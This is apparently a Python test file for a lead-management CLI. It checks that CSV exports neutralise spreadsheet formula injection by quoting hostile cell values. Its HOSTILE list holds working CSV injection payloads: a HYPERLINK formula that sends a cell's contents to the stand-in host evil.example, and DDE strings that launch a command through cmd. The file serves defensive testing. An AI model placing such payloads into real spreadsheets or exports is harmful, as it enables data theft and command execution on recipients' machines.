"""Exports never carry a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from callqa.qa.spreadsheet import FORMULA_STARTS, safe_cell
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from callqa.cli import app

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_text_is_quoted_and_numbers_stay_numbers():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell(-2) == -2 and safe_cell(0.25) == 0.25 and safe_cell(None) is None
    assert safe_cell("solar-rooftop-2024") == "solar-rooftop-2024"


@given(st.text())
def test_no_text_comes_out_evaluable(text):
    out = safe_cell(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out == text or out == "'" + text


def test_the_campaign_csv_export_neutralises_crm_formulas(tmp_path):
    config = tmp_path / "config.yaml"
    config.write_text("data_dir: data\n", encoding="utf-8")
    leads = tmp_path / "leads.csv"
    rows = ["lead_id,created_at,source,campaign,status,owner,phone"]
    for i, text in enumerate(HOSTILE[:4]):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"L{i},2024-03-01T08:00:00+07:00,{quoted},{quoted},Mới,x,")
    leads.write_text("\n".join(rows) + "\n", encoding="utf-8")
    runner = CliRunner()
    imported = runner.invoke(app, ["leads", "import", str(leads), "--config", str(config)])
    assert imported.exit_code == 0, imported.output
    for by in ("campaign", "source"):
        out = tmp_path / f"{by}.csv"
        result = runner.invoke(
            app,
            ["report", "campaigns", "--by", by, "--format", "csv", "-o", str(out)]
            + ["--config", str(config)],
        )
        assert result.exit_code == 0, result.output
        table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        groups = {row[by] for row in table if row[by] != "TOTAL"}
        assert groups == {"'" + text for text in HOSTILE[:4]}
